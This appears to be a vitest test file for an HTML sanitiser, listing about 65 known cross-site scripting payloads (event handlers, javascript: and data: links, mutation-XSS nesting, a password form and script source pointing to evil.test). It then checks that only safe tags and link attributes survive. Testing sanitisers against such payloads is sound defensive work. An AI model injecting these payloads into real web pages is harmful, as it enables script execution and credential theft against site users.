import { describe, expect, test } from 'vitest';
import { sanitised } from './sanitise';

function clean(html: string): string {
  const host = document.createElement('div');
  host.append(sanitised(html));
  return host.innerHTML;
}

const allowed = new Set(['P', 'BR', 'STRONG', 'EM', 'B', 'I', 'U', 'S', 'UL', 'OL', 'LI', 'A', 'SPAN']);
const link = ['href', 'rel', 'target'];

/** What people have used against other sanitisers. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" / >',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/><a id="x">y</a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="\uff4a\uff41\uff56\uff41script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://evil.test/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/signout">x</a>',
  '<a href="#content">x</a>',
  '<a href="https://good.test" onclick="alert(1)" onmouseover="alert(1)" style="position:fixed" class="x" id="content">x</a>',
  '<a href="https://good.test" target="_self" rel="opener" ping="https://evil.test" download>x</a>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<style>* { display: none }</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.test"><input name="password"><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<link rel="import" href="https://evil.test/x.html">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noscript><noscript><img src=x onerror=alert(1)></noscript></noscript>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action="javascript:alert(1)">',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href="javascript:alert(1)"?>',
  '<x onclick=alert(1)>y</x><my-element onconnected=alert(1)></my-element>',
  '<p is="x-evil" slot="a" part="b" contenteditable data-x="1" aria-hidden="true" name="body" autofocus tabindex=1>x</p>',
  '<span id="getElementById" name="cookie">x</span>',
  '<div><h1>x</h1><table><tr><td background="javascript:alert(1)">x</td></tr></table></div>',
  '<a href="mailto:a@b.test?subject=x" onfocus=alert(1)>x</a>',
];

describe('an announcement (BD-381, D-61)', () => {
  test.each(hostile)('keeps nothing harmful of %s', (html) => {
    const host = document.createElement('div');
    host.append(sanitised(html));
    for (const element of host.querySelectorAll('*')) {
      expect(allowed).toContain(element.tagName);
      for (const { name } of element.attributes) {
        expect(element.tagName).toBe('A');
        expect(link).toContain(name);
      }
      const href = element.getAttribute('href');
      if (href === null) continue;
      expect(new URL(href).protocol).toMatch(/^(https?|mailto):$/);
      expect(element.getAttribute('target')).toBe('_blank');
      expect(element.getAttribute('rel')).toBe('noopener noreferrer');
    }
    // It says the same to a browser that reads it once more.
    const again = document.createElement('div');
    again.innerHTML = host.innerHTML;
    expect(again.querySelector('script, img, svg, style, iframe, form, [onerror], [onload], [style]')).toBeNull();
  });

  test('keeps emphasis, lists and line breaks', () => {
    const html =
      '<p>a <strong>b</strong> <em>c</em> <b>d</b> <i>e</i> <u>f</u> <s>g</s> <span>h</span><br>i</p>' +
      '<ul><li>j</li></ul><ol><li>k</li></ol>';
    expect(clean(html)).toBe(html);
  });

  test.each(['https://good.test/a?b=1#c', 'http://good.test/', 'mailto:hello@good.test'])(
    'keeps a link to %s',
    (to) => {
      expect(clean(`<a href="${to}">x</a>`)).toBe(`<a href="${to}" target="_blank" rel="noopener noreferrer">x</a>`);
    },
  );

  test('keeps the words of what it removes', () => {
    expect(clean('<div><h1>Closed</h1> <a href="javascript:alert(1)">today</a></div>')).toBe('Closed <a>today</a>');
  });
});
